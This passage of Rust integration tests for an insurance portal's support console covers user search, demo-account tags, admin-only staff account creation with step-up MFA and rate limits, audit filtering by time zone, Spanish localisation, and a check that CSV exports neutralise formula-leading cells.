        csv.assert_ok();
        let names: BTreeMap<String, String> =
            csv_rows(&csv.text)[1..].iter().map(|r| (r[0].clone(), r[1].clone())).collect();
        assert_eq!(names["eve@example.com"], format!("'{HYPERLINK}"), "{}", csv.text);
        assert_eq!(names["plus@example.com"], "'+1 555 0100", "{}", csv.text);
        assert_eq!(names["neg@example.com"], "-42", "a plain number is not marked: {}", csv.text);
        assert_eq!(names[ANN], "ann", "{}", csv.text);
        for cell in csv_rows(&csv.text).iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?} in {}", csv.text);
        }
    })
    .await;
}

// ----- 9. User search ----------------------------------------------------------------------------

async fn create_named(app: &TestApp, email: &str, name: &str, role: Role) -> User {
    create_account(app, email, name, role, false).await
}

async fn create_account(app: &TestApp, email: &str, name: &str, role: Role, demo: bool) -> User {
    let (email, name) = (Email::parse(email).unwrap(), DisplayName::parse(name).unwrap());
    let password = NewPassword::check(TEST_PASSWORD, &app.portal.password_context(&email, &name)).unwrap();
    app.portal
        .create_account(
            NewAccount { email, name, role, password, created_at: None, demo },
            "test",
            &RequestContext::cli(),
        )
        .await
        .unwrap()
}

/// `GET /api/v1/admin/users?q=…` with `q` percent-encoded.
async fn search(app: &TestApp, staff: &Staff, q: &str) -> Answer {
    let q: String = percent_encoded(q);
    staff.get(app, &format!("/api/v1/admin/users?q={q}")).await
}

fn percent_encoded(text: &str) -> String {
    text.bytes()
        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
        .collect()
}

fn emails(a: &Answer) -> Vec<String> {
    a.json["users"]
        .as_array()
        .unwrap_or_else(|| panic!("users in {}", a.text))
        .iter()
        .map(|u| u["email"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn user_search_matches_email_and_name_case_insensitively_and_literally_and_paginates() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        create_named(&app, ANN, "Ann Lee", Role::Policyholder).await;
        create_named(&app, "jo@example.com", "Joanne Smith", Role::Policyholder).await;
        create_named(&app, "hb@example.com", "HANNAH BROWN", Role::Adjuster).await;
        create_named(&app, BOB, "Bob Stone", Role::Policyholder).await;
        create_named(&app, "a_b@example.com", "Under Score", Role::Policyholder).await;
        create_named(&app, "axb@example.com", "Ax Bee", Role::Policyholder).await;
        create_named(&app, "pct@example.com", "100% Sure", Role::Policyholder).await;
        create_named(&app, "p100@example.com", "One Hundred", Role::Policyholder).await;

        let expected = ["ann@example.com", "hb@example.com", "jo@example.com"];
        for q in ["ann", "ANN", "aNn"] {
            let a = search(&app, &sue, q).await;
            a.assert_ok();
            assert_eq!(emails(&a), expected, "q={q}");
            assert_eq!(a.json["total"], 3);
        }
        assert_eq!(emails(&search(&app, &sue, "ANN@EXAMPLE").await), ["ann@example.com"], "email, any case");
        assert_eq!(emails(&search(&app, &sue, "a_b").await), ["a_b@example.com"], "_ is literal");
        assert_eq!(emails(&search(&app, &sue, "_").await), ["a_b@example.com"], "_ is literal");
        assert_eq!(emails(&search(&app, &sue, "0%").await), ["pct@example.com"], "% is literal");
        assert_eq!(emails(&search(&app, &sue, "%").await), ["pct@example.com"], "% is literal");
        assert_eq!(emails(&search(&app, &sue, "nobody").await), Vec::<String>::new());

        // Each row says who and where they stand.
        let a = search(&app, &sue, "ann").await;
        let rows = a.json["users"].as_array().unwrap();
        for row in rows {
            for key in ["id", "email", "name", "role", "mfa_state", "methods", "setup_deadline"] {
                assert!(row.get(key).is_some(), "{key} in {row}");
            }
        }
        assert_eq!(rows[0]["name"], "Ann Lee");
        assert_eq!(rows[0]["role"], "policyholder");
        assert_eq!(rows[0]["mfa_state"], "setup_pending");
        assert_eq!(rows[0]["methods"], json!([]));
        assert_eq!(rows[0]["setup_deadline"], "2026-04-16");
        assert_eq!(rows[1]["role"], "adjuster");
        assert_eq!(rows[1]["setup_deadline"], Value::Null, "staff have no deadline");
        let me_row = &sue.get(&app, "/api/v1/admin/users?q=sue").await.json["users"][0];
        assert_eq!(
            (&me_row["role"], &me_row["mfa_state"], &me_row["methods"]),
            (&json!("support"), &json!("enrolled"), &json!(["totp"]))
        );

        // Pages of three, in email order, covering everyone exactly once.
        let all = sue.get(&app, "/api/v1/admin/users?per_page=500").await;
        let everyone = emails(&all);
        assert_eq!(everyone.len(), 9);
        assert_eq!(all.json["total"], 9);
        let mut sorted = everyone.clone();
        sorted.sort();
        assert_eq!(everyone, sorted);
        let mut paged = Vec::new();
        for page in 1..=3 {
            let a = sue.get(&app, &format!("/api/v1/admin/users?per_page=3&page={page}")).await;
            a.assert_ok();
            assert_eq!(a.json["total"], 9);
            assert_eq!(a.json["page"], page);
            assert_eq!(emails(&a).len(), 3);
            paged.extend(emails(&a));
        }
        assert_eq!(paged, everyone);
        assert_eq!(emails(&sue.get(&app, "/api/v1/admin/users?per_page=3&page=4").await), Vec::<String>::new());
        let a = sue.get(&app, "/api/v1/admin/users?q=ann&per_page=2&page=2").await;
        assert_eq!((emails(&a), &a.json["total"]), (vec!["jo@example.com".to_owned()], &json!(3)));

        // The page lists the same people.
        let page = sue.get(&app, "/console/users?q=ANN").await;
        page.assert_ok();
        for email in expected {
            assert!(page.text.contains(email), "{email} on the page");
        }
        assert!(!page.text.contains(BOB));
    })
    .await;
}

#[tokio::test]
async fn demo_accounts_carry_a_demo_tag_in_the_console_and_the_api() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let demo = create_account(&app, "demo@example.com", "Dana Demo", Role::Policyholder, true).await;
        let real = create_named(&app, ANN, "Ann Lee", Role::Policyholder).await;

        let list = sue.get(&app, "/console/users?q=example").await;
        list.assert_ok();
        let row_of = |email: &str| {
            let at = list.text.find(email).unwrap_or_else(|| panic!("{email} listed"));
            let end = list.text[at..].find("</tr>").map_or(list.text.len(), |n| at + n);
            list.text[at..end].to_owned()
        };
        assert!(row_of("demo@example.com").contains(">Demo</span>"), "{}", row_of("demo@example.com"));
        assert!(!row_of(ANN).contains(">Demo</span>"), "{}", row_of(ANN));

        let page = sue.get(&app, &format!("/console/users/{}", demo.id)).await;
        page.assert_ok();
        assert!(page.text.contains(">Demo</span>") && page.text.contains("user remove-demo"), "{}", page.text);
        let page = sue.get(&app, &format!("/console/users/{}", real.id)).await;
        assert!(!page.text.contains(">Demo</span>"));

        let found = search(&app, &sue, "example").await;
        let demo_of = |email: &str| {
            found.json["users"].as_array().unwrap().iter().find(|u| u["email"] == email).unwrap()["demo"].clone()
        };
        assert_eq!((demo_of("demo@example.com"), demo_of(ANN)), (json!(true), json!(false)));
    })
    .await;
}

// ----- 10. Staff accounts ------------------------------------------------------------------------

#[tokio::test]
async fn admins_create_staff_accounts_and_nobody_else_can() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let root = signed_in_staff(&app, ROOT, Role::Admin).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let new = json!({ "email": "Casey@Example.com", "name": "Casey Adjuster", "role": "adjuster" });

        post(&app, &sue.client, "/api/v1/admin/staff", new.clone())
            .await
            .assert_error(StatusCode::FORBIDDEN, "forbidden");
        assert_eq!(sue.get(&app, "/console/staff/new").await.status, StatusCode::FORBIDDEN);

        let before = app.mails().len();
        let a = post(&app, &root.client, "/api/v1/admin/staff", new.clone()).await;
        assert_eq!(a.status, StatusCode::CREATED, "{}", a.text);
        assert_eq!(a.json["email"], "casey@example.com");
        assert_eq!(a.json["role"], "adjuster");
        let id = a.json["id"].as_str().unwrap().to_owned();

        let mails = app.wait_for_mails(before + 1).await;
        let to_casey: Vec<&Value> = mails.iter().filter(|m| m["to"] == "casey@example.com").collect();
        assert_eq!(to_casey.len(), 1, "{mails:#?}");
        let body = to_casey[0]["body"].as_str().unwrap();
        let link_start =
            body.find(&format!("{}/reset-password?token=", app.base_url)).unwrap_or_else(|| panic!("a link in {body}"));
        let link: String = body[link_start..].chars().take_while(|c| !c.is_whitespace()).collect();
        let path = link.strip_prefix(&app.base_url).unwrap();
        assert_eq!(get(&app, &app.client(), path).await.status, StatusCode::OK, "the link opens the reset page");

        let view = root.user(&app, &id).await;
        assert_eq!((&view["role"], &view["setup_deadline"]), (&json!("adjuster"), &Value::Null));
        let events = root.audit(&app, &format!("user={id}")).await;
        assert!(
            events.iter().any(|e| e["actor"] == ROOT),
            "the creation is audited with the admin as actor: {events:#?}"
        );

        post(&app, &root.client, "/api/v1/admin/staff", new.clone())
            .await
            .assert_error(StatusCode::CONFLICT, "duplicate");
        let policyholder = json!({ "email": "pat@example.com", "name": "Pat", "role": "policyholder" });
        post(&app, &root.client, "/api/v1/admin/staff", policyholder).await.assert_field("role");
        let nonsense = json!({ "email": "pat@example.com", "name": "Pat", "role": "overlord" });
        post(&app, &root.client, "/api/v1/admin/staff", nonsense).await.assert_field("role");
        let bad_email = json!({ "email": "not an email", "name": "Pat", "role": "support" });
        post(&app, &root.client, "/api/v1/admin/staff", bad_email).await.assert_field("email");
        assert_eq!(
            app.portal.store().user_by_email(&Email::parse("pat@example.com").unwrap()).await.unwrap(),
            None,
            "nothing half-done"
        );

        // The page form too.
        let page = root.get(&app, "/console/staff/new").await;
        page.assert_ok();
        let csrf = hidden_input(&page.text, "csrf").unwrap();
        let created = post_form(
            &app,
            &root.client,
            "/console/staff/new",
            &[("csrf", csrf.as_str()), ("email", "dana@example.com"), ("name", "Dana"), ("role", "support")],
        )
        .await;
        created.assert_ok();
        assert!(created.text.contains("dana@example.com"), "{}", created.text);
        let dana = sue.get(&app, "/api/v1/admin/users?q=dana").await;
        assert_eq!(dana.json["users"][0]["role"], "support");
    })
    .await;
}

#[tokio::test]
async fn creating_a_staff_account_needs_a_fresh_second_factor_counts_in_the_hourly_limit_and_records_the_role() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let root = signed_in_staff(&app, ROOT, Role::Admin).await;
        let ann = app.create_user(ANN, Role::Policyholder).await;
        app.clock.advance(Duration::minutes(11));
        me(&app, &root.client).await.assert_ok();
        let casey = json!({ "email": "casey@example.com", "name": "Casey Adjuster", "role": "adjuster" });
        post(&app, &root.client, "/api/v1/admin/staff", casey.clone())
            .await
            .assert_error(StatusCode::FORBIDDEN, "step_up_required");
        assert_eq!(app.portal.store().user_by_email(&Email::parse("casey@example.com").unwrap()).await.unwrap(), None);

        root.step_up(&app).await;
        let created = post(&app, &root.client, "/api/v1/admin/staff", casey).await;
        assert_eq!(created.status, StatusCode::CREATED, "{}", created.text);
        let id = created.json["id"].as_str().unwrap().to_owned();
        let events = root.audit(&app, &format!("user={id}")).await;
        let creation = events.iter().find(|e| e["actor"] == ROOT).unwrap_or_else(|| panic!("{events:#?}"));
        assert_eq!(creation["details"]["role"], "adjuster", "{creation:#}");

        // 29 more actions fill the hour; the next creation is refused and creates nothing.
        for _ in 0..29 {
            root.act(&app, ann.id.as_str(), "extend-deadline", json!({ "days": 3, "reason": "asked by phone" }))
                .await
                .assert_ok();
        }
        let dana = json!({ "email": "dana@example.com", "name": "Dana Support", "role": "support" });
        let refused = post(&app, &root.client, "/api/v1/admin/staff", dana).await;
        refused.assert_error(StatusCode::TOO_MANY_REQUESTS, "rate_limited");
        assert!(refused.retry_after.is_some_and(|s| s > 0), "{refused:?}");
        assert_eq!(app.portal.store().user_by_email(&Email::parse("dana@example.com").unwrap()).await.unwrap(), None);
    })
    .await;
}

#[tokio::test]
async fn the_audit_filter_takes_days_in_the_portals_time_zone() {
    each_backend(|backend| async move {
        // New York: March 3 there runs from 05:00 UTC on March 3 to 05:00 UTC on March 4.
        let mut options = AppOptions::mfa_from(date!(2026 - 03 - 01));
        options.settings.mfa.zone = portal_core::zone::PortalZone::parse("America/New_York").unwrap();
        options.start = datetime!(2026-03-04 04:30 UTC);
        let app = TestApp::spawn_with(backend, options).await;
        signed_in_staff(&app, SUE, Role::Support).await;
        // Sue set her app up at 23:30 on March 3 in New York; the next one at 00:30 on March 4.
        app.settle().await;
        app.clock.set(datetime!(2026-03-04 05:30 UTC));
        let late = signed_in_staff(&app, "late@example.com", Role::Support).await;
        let set_up = |events: &[Value]| -> Vec<String> {
            events
                .iter()
                .filter(|e| e["action"] == "mfa.totp.confirmed")
                .map(|e| e["subject"].as_str().unwrap_or_default().to_owned())
                .collect()
        };
        let march_3 = late.audit(&app, "from=2026-03-03&until=2026-03-03").await;
        assert_eq!(set_up(&march_3), [SUE], "{march_3:?}");
        let march_4 = late.audit(&app, "from=2026-03-04&until=2026-03-04").await;
        assert_eq!(set_up(&march_4), ["late@example.com"], "{march_4:?}");
    })
    .await;
}

// ----- 11. Spanish ---------------------------------------------------------------------------------

/// Asserts `page` says each of `words`.
#[track_caller]
fn assert_says(page: &Answer, words: &[&str]) {
    for word in words {
        assert!(page.text.contains(word), "{word:?} in {}", page.text);
    }
}

#[tokio::test]
async fn the_console_speaks_spanish_to_an_agent_reading_spanish() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let ann = app.create_user(ANN, Role::Policyholder).await;
        let adj = app.create_user(ADJ, Role::Adjuster).await;
        let id = ann.id.as_str();

        // `?lang=es` once: the cookie keeps every console page after it in Spanish.
        let users = sue.get(&app, "/console/users?lang=es").await;
        users.assert_ok();
        assert_says(
            &users,
            &[
                r#"<html lang="es">"#,
                "<title>Usuarios · Consola de soporte",
                "<h1>Usuarios</h1>",
                ">Buscar</button>",
                ">Informe de inscripción</a>",
                "<p role=\"status\">3 usuarios.</p>",
                "<th scope=\"col\">Último inicio de sesión</th>",
                "<td>Asegurado</td>",
                "<td>Ajustador</td>",
                "Configuración pendiente, quedan 45 días",
                "<td>nunca</td>",
                "Página 1 de 1",
            ],
        );
        let found = sue.get(&app, "/console/users?q=adj").await;
        assert_says(&found, &["1 usuario coincide con “adj”."]);

        // A user's page, and why support cannot act on a colleague.
        let page = sue.get(&app, &format!("/console/users/{id}")).await;
        page.assert_ok();
        assert_says(
            &page,
            &[
                r#"<html lang="es">"#,
                "<dt>Estado de la MFA</dt>",
                "<dt>Métodos</dt><dd>ninguno</dd>",
                "<dt>Fecha límite de configuración</dt><dd>16 de abril de 2026 <span class=\"muted\">(creación de la cuenta + días de gracia)</span>",
                "<dt>Códigos incorrectos</dt><dd>ningún código incorrecto reciente</dd>",
                "<dt>Último inicio de sesión</dt><dd>nunca</dd>",
                ">Extender la fecha límite</a>",
                ">Restablecer la MFA</a>",
                "<h2>Sesiones abiertas (0)</h2>",
            ],
        );
        let colleague = sue.get(&app, &format!("/console/users/{}", adj.id.as_str())).await;
        assert_says(
            &colleague,
            &["Los agentes de soporte solo actúan sobre cuentas de asegurados; pídaselo a un administrador"],
        );

        // The report and its chart, before anything changes: Ann's deadline is April 16.
        let report = sue.get(&app, "/console/report").await;
        report.assert_ok();
        assert_says(
            &report,
            &[
                r#"<html lang="es">"#,
                "<h1>Informe de inscripción en la MFA</h1>",
                "Solo asegurados, al 2 de marzo de 2026.",
                "<th scope=\"row\">Configuración pendiente</th><td>1</td>",
                "Inscripción del 1 de enero de 2026 al 1 de mayo de 2026",
                "0 en los últimos 14 días",
                "<svg role=\"img\" aria-label=\"Asegurados inscritos, con configuración pendiente",
                "<title>Fecha límite de configuración 2026-04-16: 1 asegurado sin método</title>",
                ">\nhoy\n</text>",
                "<caption>Asegurados por día",
                "<td>0</td><td>1</td><td>0</td><td>según los datos de hoy</td>",
                "<th scope=\"row\">2026-04-16</th><td>0</td><td>0</td><td>1</td><td>proyectado; fecha límite de 1 sin método</td>",
                "<h2>Fecha límite vencida (0)</h2>",
            ],
        );
        // The chart's CSV is a machine format: its header stays as it is.
        let csv = sue.get(&app, "/console/report/chart.csv").await;
        assert_eq!(csv_rows(&csv.text)[0], ["date", "enrolled", "setup_pending", "setup_expired", "projected"]);

        // An action's page, its refusals, and the notice after it.
        let (_, version, confirm) = sue.confirm_page(&app, id, "extend-deadline").await;
        assert_says(
            &confirm,
            &[
                "<h1>Extender la fecha límite de configuración</h1>",
                "<strong>Qué va a pasar:</strong>",
                "Su fecha límite actual es 16 de abril de 2026.",
                "Días a partir de hoy (1–90)",
                ">Motivo</label>",
                ">Extender la fecha límite</button>",
                ">Cancelar</a>",
            ],
        );
        for (days, reason, refusal) in [
            ("seven", REASON, "Escriba un número entero de días del 1 al 90"),
            ("91", REASON, "Los días deben estar entre 1 y 90"),
            ("7", "  ", "Indique un motivo (como máximo 500 caracteres)"),
        ] {
            let page = sue.submit(&app, id, "extend-deadline", &version, &[("days", days), ("reason", reason)]).await;
            assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
            assert_says(&page, &[r#"<html lang="es">"#, refusal]);
        }
        sue.submit(&app, id, "extend-deadline", &version, &[("days", "7"), ("reason", REASON)])
            .await
            .assert_redirect(&format!("/console/users/{id}?done=extend-deadline"));
        let done = sue.get(&app, &format!("/console/users/{id}?done=extend-deadline")).await;
        assert_says(
            &done,
            &[
                "Se extendió la fecha límite y se le avisó al usuario por correo electrónico.",
                "<dd>9 de marzo de 2026 <span class=\"muted\">(fijada por soporte)</span>",
                // The audit action is machine data; its outcome is shown in words.
                "<td>support.mfa.extend_deadline</td><td>éxito</td>",
            ],
        );

        // The audit log: labels, the outcome filter's words, a filter it cannot use.
        let audit = sue.get(&app, "/console/audit?from=yesterday").await;
        assert_eq!(audit.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_says(
            &audit,
            &[
                "<h1>Registro de auditoría</h1>",
                "desde: use una fecha como 2026-03-01",
                "<option value=\"refused\">rechazado</option>",
                ">Exportar CSV</a>",
            ],
        );
        let export = sue.get(&app, "/console/audit.csv?outcome=maybe").await;
        assert_eq!(export.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_says(&export, &["No se entendió el filtro", "resultado: elija éxito, fallo o rechazado"]);
        let jsonl = sue.get(&app, &format!("/console/audit.jsonl?user={id}")).await;
        assert!(jsonl.text.contains(r#""outcome":"success""#), "the export keeps the stored values: {}", jsonl.text);

        // Only administrators create staff accounts, in Spanish too.
        let refused = sue.get(&app, "/console/staff/new").await;
        assert_eq!(refused.status, StatusCode::FORBIDDEN);
        assert_says(&refused, &["Solo los administradores crean cuentas del personal."]);
    })
    .await;
}

#[tokio::test]
async fn an_administrator_reading_spanish_creates_a_staff_account_whose_email_is_in_the_newcomers_language() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let root = signed_in_staff(&app, ROOT, Role::Admin).await;
        let page = root.get(&app, "/console/staff/new?lang=es").await;
        page.assert_ok();
        assert_says(
            &page,
            &[
                r#"<html lang="es">"#,
                "<h1>Nueva cuenta del personal</h1>",
                "<option value=\"support\">Agente de soporte</option>",
                ">Crear la cuenta</button>",
                ">Nueva cuenta del personal</a>",
            ],
        );
        let csrf = hidden_input(&page.text, "csrf").unwrap();
        let form = |email: &'static str| {
            [("csrf", csrf.clone()), ("email", email.to_owned()), ("name", "Dana".to_owned()), ("role", "support".to_owned())]
        };
        let wrong = post_form(
            &app,
            &root.client,
            "/console/staff/new",
            &form("not an email").iter().map(|(k, v)| (*k, v.as_str())).collect::<Vec<_>>(),
        )
        .await;
        assert_eq!(wrong.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_says(&wrong, &["Correo electrónico: escriba una dirección de correo electrónico como nombre@ejemplo.com"]);

        let before = app.mails().len();
        let created = post_form(
            &app,
            &root.client,
            "/console/staff/new",
            &form("dana@example.com").iter().map(|(k, v)| (*k, v.as_str())).collect::<Vec<_>>(),
        )
        .await;
        created.assert_ok();
        assert_says(
            &created,
            &["Se creó dana@example.com (Agente de soporte); se envió por correo electrónico un enlace para elegir una contraseña."],
        );
        // Dana chose no language yet: her email is in English, whatever the administrator reads.
        let mails = app.wait_for_mails(before + 1).await;
        let mail = mails.iter().find(|m| m["to"] == "dana@example.com").expect("an email to Dana");
        assert_eq!(mail["subject"], format!("Your staff account — {}", app.portal.settings().portal_name));
        let body = mail["body"].as_str().unwrap();
        assert!(body.starts_with("Hello Dana,\n\n"), "{body}");
        assert!(body.contains(&format!("{ROOT} created a support agent account for you")), "{body}");
    })
    .await;
}

#[tokio::test]
async fn the_email_a_user_gets_greets_them_in_the_language_they_chose() {
    each_backend(|backend| async move {
        let (app, sue, ann) = sue_and_ann(backend).await;
        let bob = app.create_user(BOB, Role::Policyholder).await;
        app.portal.store().set_language(&ann.id, portal_core::language::Language::Spanish, false).await.unwrap();
        let before = app.mails().len();
        for user in [&ann, &bob] {
            sue.act(&app, user.id.as_str(), "unlock", json!({ "reason": REASON })).await.assert_ok();
        }
        let mails = app.wait_for_mails(before + 2).await;
        let body_to = |to: &str| mails.iter().find(|m| m["to"] == to).unwrap()["body"].as_str().unwrap().to_owned();
        assert!(body_to(ANN).starts_with("Hola, ann:\n\n"), "{}", body_to(ANN));
        assert!(body_to(BOB).starts_with("Hello bob,\n\n"), "{}", body_to(BOB));
    })
    .await;
}
